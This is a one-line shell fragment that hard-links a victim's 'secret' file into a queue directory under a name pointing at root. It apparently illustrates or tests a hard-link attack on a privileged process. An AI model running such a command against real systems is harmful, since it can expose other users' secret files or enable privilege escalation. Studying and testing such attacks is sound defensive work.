ln "$VICTIM/secret" wait-q/hard-link-to-root
